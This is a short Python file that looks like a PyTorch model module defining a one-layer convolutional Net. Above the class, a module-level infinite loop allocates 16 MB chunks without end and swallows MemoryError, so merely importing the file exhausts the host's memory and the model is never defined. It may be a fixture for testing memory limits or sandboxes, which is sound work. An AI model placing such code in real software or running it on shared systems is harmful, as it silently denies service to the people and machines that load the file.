"""Takes memory for ever, and goes on when there is none."""

from torch import nn

held = []
while True:
    try:
        held.append(b"x" * (16 << 20))
    except MemoryError:
        continue


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 60, 3)

    def forward(self, x):
        return self.conv(x)
